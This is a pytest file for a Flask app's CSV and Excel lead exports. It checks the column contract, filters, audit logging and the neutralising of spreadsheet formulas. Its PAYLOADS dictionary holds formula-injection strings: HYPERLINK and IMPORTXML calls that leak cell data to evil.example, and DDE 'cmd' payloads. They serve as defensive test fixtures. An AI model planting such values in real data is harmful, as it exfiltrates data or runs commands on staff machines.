"""The staff exports (CSV and Excel), read back cell by cell, formula payloads included."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from quiz.db.engine import db
from quiz.db.models import AuditLog
from quiz.leads.export import COLUMNS
from tests.support.staff import (
    EMAIL,
    STAFF_CONFIG,
    add_lead,
    create_staff,
    post_export,
    signed_in_client,
)

CONTRACT = (
    "id,created_at,status,name,phone,email,best_time,outcome,concern,areas,goal,"
    "consent_at,consent_text_version,source_url,utm_source,utm_medium,utm_campaign"
).split(",")
CREATED = datetime(2026, 11, 20, 14, 30, 5, tzinfo=UTC)
# What a hostile patient (or a tampered tracking link) might type.
PAYLOADS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "email": "+cmd|' /C calc'!A0@example.com",
    "source_url": "-2+3+cmd|' /C calc'!A0",
    "utm_source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "utm_medium": "\t=1+1",
    "utm_campaign": "\r=1+1",
    "utm_term": "=1+1",
    "utm_content": "plain",
    "referrer": '=IMPORTXML(CONCAT("https://evil.example/", A2), "//a")',
}


@pytest.fixture
def app_config() -> dict[str, Any]:
    return dict(STAFF_CONFIG)


@pytest.fixture
def admin(app: Flask) -> FlaskClient:
    create_staff(app, role="admin")
    return signed_in_client(app)


def csv_records(response: Any) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][: len(CONTRACT)] == CONTRACT
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def excel_text(value: str) -> str:
    """Decode OOXML's _xHHHH_ escapes (how a carriage return is stored), as Excel does."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def xlsx_sheet(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))["Leads"]


def xlsx_records(data: bytes) -> list[dict[str, Any]]:
    sheet = xlsx_sheet(data)
    header = [c.value for c in sheet[1]]
    assert header == list(COLUMNS)
    return [{h: c for h, c in zip(header, r, strict=True)} for r in sheet.iter_rows(min_row=2)]


def test_csv_export_matches_the_contract_and_neutralises_formulas(
    app: Flask, admin: FlaskClient
) -> None:
    lead_id = add_lead(app, created=CREATED, **PAYLOADS)
    response = post_export(admin, "csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="leads-')
    assert "no-store" in response.headers["Cache-Control"]
    [record] = csv_records(response)
    assert record["id"] == str(lead_id)
    assert record["created_at"] == "2026-11-20T14:30:05Z"
    assert record["phone"] == "+13018105740"  # validated E.164: written as it is
    assert record["areas"] == "between_brows;cheeks"
    for column, payload in PAYLOADS.items():
        expected = payload if payload == "plain" else "'" + payload
        assert record[column] == expected, column


def test_xlsx_export_has_typed_cells_and_no_formula_can_run(app: Flask, admin: FlaskClient) -> None:
    lead_id = add_lead(app, created=CREATED, **PAYLOADS)
    response = post_export(admin, "xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].startswith("attachment; filename=leads-")
    assert response.headers["Content-Disposition"].endswith(".xlsx")
    assert "no-store" in response.headers["Cache-Control"]
    [cells] = xlsx_records(response.data)
    assert cells["id"].data_type == "n" and cells["id"].value == lead_id
    assert cells["created_at"].is_date
    assert cells["created_at"].value == CREATED.replace(tzinfo=None)  # UTC
    assert cells["consent_at"].value == CREATED.replace(tzinfo=None)
    assert cells["phone"].data_type == "s" and cells["phone"].value == "+13018105740"
    assert cells["status"].value == "new"
    # The patient's exact words, as text cells: shown, never evaluated.
    for column, payload in PAYLOADS.items():
        assert cells[column].data_type == "s", column
        assert excel_text(cells[column].value) == payload, column
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere


def test_both_exports_hold_the_same_rows(app: Flask, admin: FlaskClient) -> None:
    for i in range(5):
        add_lead(app, name=f"Patient {i}", created=CREATED, outcome=["relax", "fill"][i % 2])
    from_csv = csv_records(post_export(admin, "csv"))
    from_xlsx = xlsx_records(post_export(admin, "xlsx").data)
    assert len(from_csv) == len(from_xlsx) == 5
    for text_row, cell_row in zip(from_csv, from_xlsx, strict=True):
        for column in ("id", "status", "name", "phone", "outcome", "areas", "goal"):
            assert text_row[column] == str(cell_row[column].value), column


def test_exports_honour_the_lists_filters(app: Flask, admin: FlaskClient) -> None:
    add_lead(app, name="Fill New", outcome="fill", created=CREATED)
    add_lead(app, name="Fill Booked", outcome="fill", status="booked", created=CREATED)
    add_lead(app, name="Relax New", outcome="relax", created=CREATED)
    add_lead(app, name="Fill October", outcome="fill", created=datetime(2026, 10, 2, tzinfo=UTC))
    filters = {"outcome": "fill", "status": "new", "since": "2026-11-01"}
    assert [r["name"] for r in csv_records(post_export(admin, "csv", **filters))] == ["Fill New"]
    xlsx = xlsx_records(post_export(admin, "xlsx", **filters).data)
    assert [r["name"].value for r in xlsx] == ["Fill New"]
    searched = csv_records(post_export(admin, "csv", q="october"))
    assert [r["name"] for r in searched] == ["Fill October"]


def test_an_empty_export_still_has_its_header(app: Flask, admin: FlaskClient) -> None:
    assert csv_records(post_export(admin, "csv")) == []
    assert xlsx_records(post_export(admin, "xlsx").data) == []


def test_exports_with_bad_filters_are_refused(app: Flask, admin: FlaskClient) -> None:
    add_lead(app)
    for fmt in ("csv", "xlsx"):
        response = post_export(admin, fmt, since="last-week")
        assert response.status_code == 400
        assert "filters are not valid" in response.get_data(as_text=True)
        assert "Jane" not in response.get_data(as_text=True)


def test_each_export_is_audited_without_personal_data(app: Flask, admin: FlaskClient) -> None:
    add_lead(app, name="Jane Patient", outcome="fill", created=CREATED)
    add_lead(app, name="John Other", outcome="fill", created=CREATED)
    post_export(admin, "csv", outcome="fill", q="Jane Patient", since="2026-11-01").get_data()
    post_export(admin, "xlsx", status="booked")
    with app.app_context():
        entries = list(
            db.session.execute(
                select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)
            ).scalars()
        )
    assert [(e.actor, e.row_count) for e in entries] == [(EMAIL, 1), (EMAIL, 0)]
    assert all(e.staff_id is not None and e.at is not None for e in entries)
    first, second = (json.loads(e.detail) for e in entries)
    assert first == {
        "format": "csv",
        "filters": {"outcome": "fill", "since": "2026-11-01", "search": True, "time_zone": "UTC"},
    }
    assert second == {"format": "xlsx", "filters": {"status": "booked"}}
    assert "Jane" not in entries[0].detail  # the search text may name a patient


def test_cli_export_still_writes_the_contract_and_is_audited(app: Flask) -> None:
    add_lead(app, created=CREATED, **PAYLOADS)
    result = app.test_cli_runner().invoke(args=["leads", "export", "--since", "2026-11-20"])
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0][: len(CONTRACT)] == CONTRACT
    assert rows[1][COLUMNS.index("name")] == "'" + PAYLOADS["name"]
    with app.app_context():
        entry = db.session.execute(select(AuditLog)).scalar_one()
    assert (entry.actor, entry.action, entry.row_count) == ("cli", "export", 1)


def test_cli_can_write_the_excel_file_too(app: Flask, tmp_path: Any) -> None:
    add_lead(app, created=CREATED, **PAYLOADS)
    target = tmp_path / "leads.xlsx"
    runner = app.test_cli_runner()
    result = runner.invoke(args=["leads", "export", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    [cells] = xlsx_records(target.read_bytes())
    assert cells["name"].value == PAYLOADS["name"] and cells["name"].data_type == "s"
    to_stdout = runner.invoke(args=["leads", "export", "--format", "xlsx"])
    assert to_stdout.exit_code == 2 and "needs -o FILE.xlsx" in to_stdout.output
